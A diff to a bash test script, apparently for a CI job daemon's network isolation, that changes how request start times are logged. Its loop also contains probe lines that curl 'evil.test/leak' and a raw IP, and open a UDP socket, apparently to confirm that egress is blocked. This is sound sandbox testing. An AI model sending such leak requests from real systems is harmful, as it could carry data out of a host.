@@ -38,8 +38,9 @@ daemon_start || done_testing
 cat >"$TMP/loop.sh" <<'SH'
 #!/bin/bash
 while [ -e "$1/pause" ]; do
-	code=$(curl -s --max-time 8 -o /dev/null -w '%{http_code}' "https://api.test/hello.txt?$EPOCHREALTIME")
-	echo "${EPOCHREALTIME/./} $code" >>"$1/codes"
+	start=$EPOCHREALTIME
+	code=$(curl -s --max-time 8 -o /dev/null -w '%{http_code}' "https://api.test/hello.txt?$start")
+	echo "${start/./} $code" >>"$1/codes"
 	evil=$(curl -sk --max-time 4 -o /dev/null -w '%{http_code}' https://evil.test/leak)
 	raw=$(curl -sk --max-time 4 -o /dev/null -w '%{http_code}' https://198.51.100.20/leak)
 	(exec 3<>/dev/udp/198.51.100.20/443 && echo x >&3) 2>/dev/null && evil=udp
@@ -51,7 +52,7 @@ chmod 755 "$TMP/loop.sh"
 JOB_OPTS=(--label repo=chaos --label event=push)
 JOB_TIMEOUT=220 daemon_job "$TMP/loop.sh" "$TMP" >"$TMP/job.out" 2>&1 &
 job_pid=$!
-since() { awk -v t="$1" '$1 > t { print $2 }' "$TMP/codes"; } # codes after a time
+since() { awk -v t="$1" '$1 > t { print $2 }' "$TMP/codes"; } # codes of requests begun after a time
 served() { wait_for "$2" "since $1 | grep -qx 200"; }
 t "the job is served" wait_for 30 "grep -q ' 200' '$TMP/codes'"
 
